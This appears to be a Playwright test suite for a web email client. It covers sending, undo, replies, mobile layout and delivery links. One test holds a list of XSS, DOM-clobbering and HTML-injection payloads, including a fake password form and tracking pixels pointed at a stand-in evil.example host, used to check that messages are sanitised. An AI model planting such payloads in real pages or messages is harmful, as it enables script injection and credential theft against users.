import { expect, type Page } from '@playwright/test'
import { test } from './journey.ts'
import { asAdmin, settled, signIn, unique } from './visit.ts'

const evil = 'https://evil.example'
/** What strangers send to get out of their message: scripts, styles over the page, forms, frames, broken and deep markup. */
const hostile = [
  '<script>parent.broken = top.broken = window.broken = 1</script>',
  '<img src=x onerror="top.broken=1"><svg onload="top.broken=1"><body onload="top.broken=1">',
  '<svg><script>top.broken=1</script></svg><math><mtext><style><img src=x onerror=top.broken=1></style></mtext></math>',
  '<iframe srcdoc="<script>top.broken=1</script>"></iframe><object data="javascript:top.broken=1"></object><embed src="javascript:top.broken=1">',
  '<a href="javascript:top.broken=1" id="trap" style="position:fixed;inset:0;z-index:9999">Open</a>',
  '<style>*{position:fixed!important;inset:0!important;background:red!important;z-index:99999!important}</style><div>Cover</div>',
  `<form action="${evil}/form" target="_top"><input name="password" autofocus><button>Sign in</button></form>`,
  `<meta http-equiv="refresh" content="0;url=${evil}/refresh"><base href="${evil}/"><link rel="stylesheet" href="${evil}/a.css">`,
  `<style>@import url(${evil}/import.css);p{background:url(${evil}/css.png)}@font-face{font-family:x;src:url(${evil}/f.woff)}</style><p>Text</p>`,
  `<img src="${evil}/pixel.png" alt="pixel"><img srcset="${evil}/set.png 2x"><video poster="${evil}/poster.png" src="${evil}/v.mp4"></video><div style="background-image:url('${evil}/style.png')">x</div>`,
  '<noscript><p title="</noscript><img src=x onerror=top.broken=1>"></noscript><!--><img src=x onerror=top.broken=1>-->',
  '<table><form><tr><td><b><i>never closed <div style="',
  `${'<div>'.repeat(2000)}deep${'</div>'.repeat(2000)}`,
  `<p>${'wide'.repeat(5000)}</p><pre>${'x'.repeat(20_000)}</pre>`,
  '<a id="x" name="getElementById"></a><form id="parentNode"><input name="attributes"></form><img name="body">',
]

async function apiAs(page: Page, who: string) {
  const reply = await page.request.post('/api/auth/login', { data: { email: `${who}@demo.com`, password: who } })
  const { accessToken } = (await reply.json()) as { accessToken: string }
  const headers = { authorization: `Bearer ${accessToken}` }
  const post = async <T>(path: string, data: unknown) =>
    (await (await page.request.post(path, { headers, data })).json()) as T
  return {
    send: async (subject: string, message: string) => {
      const to = [{ email: 'admin@demo.com', name: 'Helena Brandt' }]
      type Draft = { id: number; version: number }
      const { id, version } = await post<Draft>('/api/apps/email/draft', { to, cc: [], bcc: [], subject, message })
      await post(`/api/apps/email/draft/${id}/send`, { version })
    },
  }
}

test('an email is sent, taken back by undo, sent again, read live by its recipient and answered', async ({
  page,
  browser,
  baseURL,
}) => {
  const subject = unique('Keys')
  await signIn(page)
  await page.goto('/apps/email')
  await settled(page)
  await page.keyboard.press('c')
  const composer = page.getByRole('region', { name: 'Write an email' })
  await composer.getByRole('combobox', { name: 'To', exact: true }).fill('okafor')
  await page.getByRole('option', { name: /Daniel Okafor/ }).click()
  await composer.getByRole('textbox', { name: 'Subject' }).fill(subject)
  await composer.getByRole('textbox', { name: 'Message' }).fill('They hang on the hook.')
  await composer
    .locator('input[type=file]')
    .setInputFiles({ name: 'hook.txt', mimeType: 'text/plain', buffer: Buffer.from('left of the door') })
  await expect(composer.getByRole('link', { name: /hook\.txt/ })).toBeVisible()
  await expect(composer.getByRole('status')).toHaveText('Saved')
  await page.reload()
  await expect(composer.getByRole('textbox', { name: 'Message' })).toHaveText('They hang on the hook.')
  await composer.getByRole('button', { name: 'More ways to send' }).click()
  await page.getByRole('menuitem', { name: 'Send later' }).click()
  const later = page.getByRole('dialog', { name: 'Send later' })
  await expect(later).toBeVisible()
  await page.reload()
  await expect(later).toBeVisible()
  await page.goBack()
  await expect(later).toBeHidden()
  await composer.getByRole('button', { name: 'Send', exact: true }).click()
  await page.getByRole('status').getByRole('button', { name: 'Undo' }).click()
  await expect(composer.getByRole('textbox', { name: 'Subject' })).toHaveValue(subject)

  const context = await browser.newContext({ baseURL: baseURL! })
  const other = await context.newPage()
  await signIn(other, 'dispatcher')
  await other.goto('/apps/email')
  await settled(other)
  await composer.getByRole('button', { name: 'Send', exact: true }).click()
  await expect(composer).toHaveCount(0)
  const row = other.getByRole('listitem').filter({ hasText: subject })
  await expect(row).toBeVisible({ timeout: 40_000 })
  await row
    .getByRole('button', { name: new RegExp(subject) })
    .last()
    .focus()
  await row.getByText(subject).click()
  await expect(other.frameLocator('iframe').getByText('They hang on the hook.')).toBeVisible()
  await expect(other.getByRole('link', { name: /hook\.txt/ })).toBeVisible()
  await other.getByRole('button', { name: 'Reply', exact: true }).click()
  const answer = other.getByRole('region', { name: 'Reply' })
  await answer.getByRole('textbox', { name: 'Message' }).press('Control+Home')
  await other.keyboard.type('Found them.')
  await answer.getByRole('button', { name: 'Send', exact: true }).click()
  await expect(page.getByRole('listitem').filter({ hasText: `Re: ${subject}` })).toBeVisible({ timeout: 40_000 })
  await context.close()

  await page
    .getByRole('listitem')
    .filter({ hasText: `Re: ${subject}` })
    .getByText(`Re: ${subject}`)
    .click()
  await page.getByRole('button', { name: 'Show 1 earlier email' }).click()
  await expect(page.getByRole('article')).toHaveCount(2)
  await page.getByRole('button', { name: 'Star' }).click()
  await expect(page.getByRole('button', { name: 'Star' })).toHaveAttribute('aria-pressed', 'true')
  await page.keyboard.press('#')
  await page.getByRole('link', { name: 'Trash' }).click()
  await expect(page.getByRole('listitem').filter({ hasText: `Re: ${subject}` })).toBeVisible()
})

test('hostile messages change nothing outside, and pictures load only on request', async ({ page }) => {
  const word = unique('Hostile')
  const asked: string[] = []
  await page.route(`${evil}/**`, (route) => {
    asked.push(route.request().url())
    return route.fulfill({ status: 200, contentType: 'image/png', body: '' })
  })
  page.on('dialog', (dialog) => void asked.push(dialog.message()))
  page.on('popup', () => void asked.push('popup'))
  const stranger = await apiAs(page, 'dispatcher')
  for (const [index, message] of hostile.entries()) await stranger.send(`${word} ${index}`, `<p>Begin</p>${message}`)
  await signIn(page)
  await page.goto(`/apps/email?q=${word}`)
  await expect(page.getByText(`1–${hostile.length} of ${hostile.length}`)).toBeVisible({ timeout: 60_000 })
  for (const index of hostile.keys()) {
    await page
      .getByRole('listitem')
      .filter({ hasText: new RegExp(`${word} ${index}(?!\\d)`) })
      .getByText(word)
      .click()
    const frame = page.frameLocator('iframe')
    await expect(frame.locator('main')).not.toBeEmpty()
    await expect(
      frame.locator('form, input, iframe, object, embed, script:not(body > script), meta[http-equiv=refresh]'),
    ).toHaveCount(0)
    const state = await page.evaluate(() => ({
      broken: 'broken' in window,
      path: location.pathname,
      frame: document.querySelector('iframe')!.getBoundingClientRect().toJSON() as { height: number; width: number },
      top: document.elementFromPoint(innerWidth / 2, 20)?.tagName,
    }))
    expect(state, String(index)).toMatchObject({ broken: false, path: '/apps/email' })
    expect(state.frame.width).toBeLessThan(1400)
    expect(state.top).not.toBe('IFRAME')
    if (index === 9) {
      expect(asked).toEqual([])
      await page.getByRole('button', { name: 'Show pictures' }).click()
      await expect.poll(() => asked).toContain(`${evil}/pixel.png`)
      asked.length = 0
    }
    await page.getByRole('button', { name: 'Back to the list' }).click()
  }
  expect(asked).toEqual([])
  await page.getByRole('checkbox', { name: 'Select all emails on this page' }).check()
  await page.getByRole('button', { name: 'Move to trash' }).click()
  await expect(page.getByText('No emails found')).toBeVisible()
})

test('on a phone the list gives way to the email, and folders are in a drawer', async ({ page }) => {
  await page.setViewportSize({ width: 390, height: 844 })
  await signIn(page)
  await page.goto('/apps/email/label/private')
  await settled(page)
  const row = page.getByRole('listitem').filter({ hasText: 'Cold chain: signed contract' })
  await row.getByText('Cold chain: signed contract').click()
  await expect(row).toHaveCount(0)
  await expect(page.frameLocator('iframe').getByText(/refrigerated deliveries/)).toBeVisible()
  await page.getByRole('button', { name: 'Back to the list' }).click()
  await expect(row).toBeVisible()
  await page.getByRole('button', { name: 'Folders' }).click()
  await page.getByRole('dialog').getByRole('link', { name: /Sent/ }).click()
  await expect(page).toHaveURL(/\/apps\/email\/filter\/sent/)
  await expect(page.getByText('Your first week with us')).toBeVisible()
  await page.goto('/apps/email/spam')
  await expect(page.getByText('You have won a van!!!')).toBeVisible()
})

test('a link to a new delivery from an email opens both, and the delivery opens from the email', async ({
  page,
  request,
}) => {
  const subject = unique('Parcel')
  await (await apiAs(page, 'dispatcher')).send(subject, '<p>Address: 18 de Julio 1234</p>')
  const admin = await asAdmin(request)
  const found = async () => (await admin.read<{ emails: { id: number }[] }>(`/api/apps/email?q=${subject}`)).emails
  await expect.poll(async () => (await found()).length).toBe(1)
  await signIn(page)
  await page.goto(`/apps/email?mail=${(await found())[0]!.id}&open=delivery`)
  const form = page.getByRole('dialog', { name: 'Create delivery' })
  await expect(form.getByLabel('Email')).toHaveValue('dispatcher@demo.com')
  await form.getByRole('button', { name: 'Create delivery' }).click()
  await expect(form).toBeHidden()
  await page
    .getByRole('complementary', { name: 'What this email is about' })
    .getByRole('link', { name: /18 de Julio 1234/ })
    .click()
  await expect(page).toHaveURL(/\/apps\/logistics\/delivery/)
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
})
